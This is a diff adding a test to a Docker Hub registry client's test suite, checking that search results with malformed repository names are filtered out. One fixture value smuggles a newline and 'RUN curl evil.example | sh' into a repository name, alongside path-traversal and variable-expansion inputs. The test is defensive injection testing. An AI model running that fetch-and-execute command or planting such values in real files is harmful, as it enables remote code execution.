@@ -37,6 +37,25 @@ describe("Docker Hub", () => {
     return network.registry.tag(acme, "1", asking());
   }
 
+  it("finds nothing whose name is more than a name, since it would be offered for a file", async () => {
+    const names = [
+      "nginx",
+      "acme/tool",
+      "acme/tool\nRUN curl evil.example | sh",
+      "a/b c",
+      "../x",
+      "${X}",
+      "A/b",
+    ];
+    server.answer(() => ({ body: { count: 7, results: names.map((repo_name) => ({ repo_name })) } }));
+    const fact = await network.registry.search("acme", asking());
+    assert.ok(fact.state === "known");
+    assert.deepEqual(
+      fact.value.map(({ name }) => name),
+      ["nginx", "acme/tool"],
+    );
+  });
+
   it("reads a tag of today's shape, and leaves out attestations", async () => {
     const fact = await tagFact({
       body: {
